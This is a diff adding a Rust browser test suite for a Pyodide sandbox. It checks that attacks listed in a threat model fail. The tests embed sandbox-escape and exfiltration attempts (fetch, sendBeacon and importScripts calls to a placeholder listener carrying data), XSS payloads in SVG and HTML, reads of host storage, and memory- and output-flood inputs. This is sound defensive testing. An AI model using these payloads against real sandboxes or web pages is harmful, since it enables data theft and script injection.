@@ -1,0 +1,243 @@
+//! THREATS.md, attack by attack, against the default (iframe) isolation.
+//! Each one: the page is unaffected, nothing leaks (the listener records no
+//! request, the planted secrets never appear), and the next run works.
+use wasm_bindgen::{JsCast, JsValue};
+use wasm_bindgen_test::*;
+mod common;
+use common::*;
+
+wasm_bindgen_test_configure!(run_in_browser);
+
+const SECRETS: &[&str] = &["PYCAGE-SECRET-FILE-7f3a", "COOKIE-SECRET-91b2", "IDB-SECRET-5c4d", "CACHE-SECRET-e8f0"];
+
+/// Plants the host's secrets: a cookie, an IndexedDB record, a CacheStorage entry.
+async fn plant_secrets() {
+    let setup = r#"(async () => {
+        document.cookie = "pycage_secret=COOKIE-SECRET-91b2; path=/";
+        await new Promise((ok, fail) => {
+            const req = indexedDB.open("app", 1);
+            req.onupgradeneeded = () => req.result.createObjectStore("kv");
+            req.onsuccess = () => { const tx = req.result.transaction("kv", "readwrite");
+                tx.objectStore("kv").put("IDB-SECRET-5c4d", "token"); tx.oncomplete = ok; tx.onerror = fail; };
+            req.onerror = fail;
+        });
+        const cache = await caches.open("app");
+        await cache.put("/secret-cache", new Response("CACHE-SECRET-e8f0"));
+    })()"#;
+    let promise: js_sys::Promise = js_sys::eval(setup).unwrap().unchecked_into();
+    wasm_bindgen_futures::JsFuture::from(promise).await.unwrap();
+}
+
+async fn clear_listener() {
+    let url = format!("{}/__clear", listener());
+    wasm_bindgen_futures::JsFuture::from(web_sys::window().unwrap().fetch_with_str(&url)).await.unwrap();
+}
+
+/// Runs one attack and checks the invariants; returns the Execution.
+async fn attack(code: &str) -> JsValue {
+    attack_with(code, JsValue::UNDEFINED).await
+}
+
+async fn attack_with(code: &str, opts: JsValue) -> JsValue {
+    plant_secrets().await;
+    clear_listener().await;
+    let sb = shared().await;
+    let code = code.replace("LISTENER", listener());
+    let ex = run_with(&sb, &code, opts).await;
+    let dump = json(&ex);
+    for secret in SECRETS {
+        assert!(!dump.contains(secret), "secret {secret} leaked: {dump}");
+    }
+    sleep(300).await; // let any stray request land
+    assert_eq!(listener_log().await, Vec::<String>::new(), "the listener saw a request; result: {dump}");
+    assert_healthy(&sb).await;
+    ex
+}
+
+fn out(ex: &JsValue) -> String {
+    format!("{} {} {}", text(ex, "stdout"), text(ex, "stderr"), text(ex, "error.message"))
+}
+
+#[wasm_bindgen_test]
+async fn a01_fetch_same_origin_secret_fails() {
+    let ex = attack("import js\nr = await js.fetch('/tests/fixtures/secret.json')\nprint(await r.text())").await;
+    assert_eq!(status(&ex), "error", "{}", json(&ex));
+    // The native fetch too, past pycage's fetch: blocked by the CSP.
+    let ex = attack(
+        "import js\nf = js.WorkerGlobalScope.prototype.fetch\n\
+         r = await f.call(js.self, js.URL.new('/tests/fixtures/secret.json', js.location.href).href)\nprint(await r.text())",
+    )
+    .await;
+    assert_eq!(status(&ex), "error", "{}", json(&ex));
+}
+
+#[wasm_bindgen_test]
+async fn a02_credentialed_post_to_the_api_never_arrives() {
+    let ex = attack(
+        "from pyodide.http import pyfetch\n\
+         await pyfetch('LISTENER/api', method='POST', credentials='include', body='x')",
+    )
+    .await;
+    assert_eq!(status(&ex), "error");
+    let ex = attack("from pyodide.http import pyfetch\nawait pyfetch('/api', method='POST', credentials='include')").await;
+    assert_eq!(status(&ex), "error");
+}
+
+#[wasm_bindgen_test]
+async fn a03_no_cors_exfiltration_never_arrives() {
+    let ex = attack("import js\nfrom pyodide.ffi import to_js\nawait js.fetch('LISTENER/exfil?d=x', to_js({'mode': 'no-cors'}))").await;
+    assert_eq!(status(&ex), "error");
+    let ex = attack(
+        "import js\nf = js.WorkerGlobalScope.prototype.fetch\nawait f.call(js.self, 'LISTENER/exfil?d=native')",
+    )
+    .await;
+    assert_eq!(status(&ex), "error");
+    let ex = attack("import js\nprint(js.navigator.sendBeacon('LISTENER/beacon', 'x'))").await;
+    assert!(status(&ex) == "error" || text(&ex, "stdout").starts_with("False"), "{}", json(&ex));
+}
+
+#[wasm_bindgen_test]
+async fn a04_sync_xhr_fails() {
+    let ex = attack("import js\nx = js.XMLHttpRequest.new()\nx.open('GET', 'LISTENER/xhr', False)\nx.send()\nprint(x.responseText)").await;
+    assert_eq!(status(&ex), "error", "{}", json(&ex));
+}
+
+#[wasm_bindgen_test]
+async fn a05_websocket_and_eventsource_are_blocked() {
+    let code = "import js, asyncio\n\
+        try:\n    ws = js.WebSocket.new('ws://127.0.0.1:8799/ws')\nexcept Exception as e:\n    print('ws blocked', type(e).__name__)\n\
+        try:\n    es = js.EventSource.new('LISTENER/events')\nexcept Exception as e:\n    print('es blocked', type(e).__name__)\n\
+        await asyncio.sleep(0.3)";
+    let ex = attack(code).await;
+    assert_eq!(status(&ex), "ok", "{}", json(&ex));
+}
+
+#[wasm_bindgen_test]
+async fn a06_import_scripts_and_dynamic_import_are_blocked() {
+    let ex = attack("import js\njs.importScripts('LISTENER/evil.js')").await;
+    assert_eq!(status(&ex), "error");
+    let ex = attack("from pyodide.code import run_js\nawait run_js(\"import('LISTENER/evil.mjs')\")").await;
+    assert_eq!(status(&ex), "error", "{}", json(&ex));
+    assert!(out(&ex).contains("EvalError") || out(&ex).contains("unsafe-eval") || out(&ex).contains("Content Security"), "{}", out(&ex));
+}
+
+#[wasm_bindgen_test]
+async fn a07_host_storage_is_out_of_reach() {
+    let ex = attack("import js\nreq = js.indexedDB.open('app')\nprint('opened', req)").await;
+    assert_eq!(status(&ex), "error", "{}", json(&ex));
+    let ex = attack("import js\nc = await js.caches.open('app')\nr = await c.match('/secret-cache')\nprint(await r.text())").await;
+    assert_eq!(status(&ex), "error", "{}", json(&ex));
+    let ex = attack("import js\nprint(getattr(js, 'document', None), getattr(js, 'localStorage', None))").await;
+    assert_eq!(text(&ex, "stdout"), "None None\n");
+}
+
+#[wasm_bindgen_test]
+async fn a08_forged_results_are_ignored() {
+    // Forging on the worker global, and by patching MessagePort.prototype.postMessage.
+    let code = "import js\nfrom pyodide.ffi import to_js, create_proxy\n\
+        js.postMessage(to_js({'type': 'done', 'id': 1, 'status': 'ok', 'result': {'text/plain': 'forged'}}))\n\
+        orig = js.MessagePort.prototype.postMessage\n\
+        print('real output')\n'real result'";
+    let ex = attack(code).await;
+    assert_eq!(text(&ex, "result.text/plain"), "'real result'", "{}", json(&ex));
+    assert_eq!(text(&ex, "stdout"), "real output\n");
+}
+
+#[wasm_bindgen_test]
+async fn a09_post_message_flood_is_bounded() {
+    let ticks = js_sys::eval("window.__ticks = 0; setInterval(() => window.__ticks++, 50); 0").unwrap();
+    let _ = ticks;
+    let started = now();
+    let ex = attack_with("import js\nwhile True:\n    js.postMessage('x' * 10**7)", obj(&[("timeoutMs", 5000.into())])).await;
+    assert!(["crashed", "timeout"].contains(&status(&ex).as_str()), "{}", json(&ex));
+    let ticks = js_sys::eval("window.__ticks").unwrap().as_f64().unwrap();
+    let elapsed = now() - started;
+    assert!(ticks > elapsed / 50.0 / 4.0, "the page stalled: {ticks} ticks in {elapsed} ms");
+}
+
+#[wasm_bindgen_test]
+async fn a10_svg_and_html_scripts_never_run_in_the_page() {
+    js_sys::eval("window.__pwned = 0").unwrap();
+    let code = "class X:\n    def _repr_svg_(self): return '<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"parent.__pwned=1\"><script>parent.__pwned=2</script></svg>'\n    def _repr_html_(self): return '<script>window.__pwned=3</script><img src=x onerror=\"window.__pwned=4\">'\n\
+        display(X())\nX()";
+    let ex = attack(code).await;
+    assert_eq!(status(&ex), "ok");
+    let figure = get(&as_array(&get(&ex, "figures")).get(0), "mime");
+    assert_eq!(figure.as_string().unwrap(), "image/svg+xml");
+    assert!(text(&ex, "result.text/html").contains("<script>"), "HTML comes back as data: {}", json(&ex));
+    sleep(200).await;
+    assert_eq!(js_sys::eval("window.__pwned").unwrap().as_f64(), Some(0.0));
+}
+
+#[wasm_bindgen_test]
+async fn a11_markup_in_stdout_is_plain_text() {
+    let ex = attack("print('<img src=x onerror=alert(1)>')").await;
+    assert_eq!(text(&ex, "stdout"), "<img src=x onerror=alert(1)>\n");
+}
+
+#[wasm_bindgen_test]
+async fn a12_output_floods_are_capped() {
+    let ex = attack_with("print('A' * 10**9)", obj(&[("timeoutMs", 20_000.into())])).await;
+    assert!(["ok", "error"].contains(&status(&ex).as_str()), "{}", json(&ex));
+    if status(&ex) == "ok" {
+        assert_eq!(get(&ex, "truncated"), JsValue::TRUE);
+        assert_eq!(text(&ex, "stdout").len(), 20_000_000.min(1 << 20));
+    }
+    let ex = attack("for i in range(10**6): print(i)").await;
+    assert_eq!(get(&ex, "truncated"), JsValue::TRUE, "{} {}", status(&ex), text(&ex, "error.message"));
+    assert_eq!(text(&ex, "stdout").len(), 1 << 20);
+}
+
+#[wasm_bindgen_test]
+async fn a15_atomics_wait_forever_is_stopped() {
+    let code = "import js\nb = js.Int32Array.new(js.SharedArrayBuffer.new(4))\njs.Atomics.wait(b, 0, 0)";
+    let ex = attack_with(code, obj(&[("timeoutMs", 500.into())])).await;
+    // Without cross-origin isolation in the frame there is no SharedArrayBuffer at all.
+    assert!(["timeout", "error"].contains(&status(&ex).as_str()), "{}", json(&ex));
+}
+
+#[wasm_bindgen_test]
+async fn a16_memory_bomb_is_survived() {
+    let ex = attack_with("x = [bytearray(10**8) for _ in range(100)]", obj(&[("timeoutMs", 20_000.into())])).await;
+    assert!(["error", "crashed", "timeout"].contains(&status(&ex).as_str()), "{}", json(&ex));
+}
+
+#[wasm_bindgen_test]
+async fn a18_a_reset_sandbox_is_clean() {
+    let sb = shared().await;
+    run(&sb, "import builtins\nbuiltins.print = lambda *a, **k: None").await;
+    wasm_bindgen_futures::JsFuture::from(sb.reset()).await.unwrap();
+    assert_healthy(&sb).await;
+}
+
+#[wasm_bindgen_test]
+async fn a19_stdout_set_to_none_still_completes() {
+    let ex = attack("import sys\nsys.stdout = None\nprint('lost')\n'done'").await;
+    assert_eq!(text(&ex, "result.text/plain"), "'done'");
+}
+
+#[wasm_bindgen_test]
+async fn a21_huge_and_countless_figures_are_capped() {
+    let code = "import zlib, struct\n\
+        def png(w, h, extra=0):\n\
+        \x20   def chunk(k, d): return struct.pack('>I', len(d)) + k + d + struct.pack('>I', zlib.crc32(k + d))\n\
+        \x20   ihdr = struct.pack('>IIBBBBB', w, h, 8, 0, 0, 0, 0)\n\
+        \x20   return b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', ihdr) + chunk(b'IDAT', zlib.compress(b'\\x00' * (w + 1) * h)) + b'\\x00' * extra + chunk(b'IEND', b'')\n\
+        class Big:\n    def _repr_png_(self): return png(10, 10, extra=6 * 2**20)\n\
+        class Small:\n    def _repr_png_(self): return png(2, 2)\n\
+        display(Big())\n\
+        for _ in range(10000): display(Small())";
+    let ex = attack_with(code, obj(&[("timeoutMs", 20_000.into())])).await;
+    assert_eq!(status(&ex), "ok", "{}", text(&ex, "error.message"));
+    assert_eq!(as_array(&get(&ex, "figures")).length(), 50);
+    let dropped = json(&get(&ex, "droppedOutputs"));
+    assert!(dropped.contains("maxFigureBytes") && dropped.contains("maxFigures"), "{dropped}");
+}
+
+#[wasm_bindgen_test]
+async fn a22_micropip_from_an_unlisted_url_is_blocked() {
+    let ex = attack("import micropip\nawait micropip.install('LISTENER/x-1.0-py3-none-any.whl')").await;
+    assert_eq!(status(&ex), "error", "{}", json(&ex));
+    let ex = attack("import pyodide_js\nawait pyodide_js.loadPackage('LISTENER/x-1.0-py3-none-any.whl')\nimport x").await;
+    assert_eq!(status(&ex), "error", "{}", json(&ex));
+}
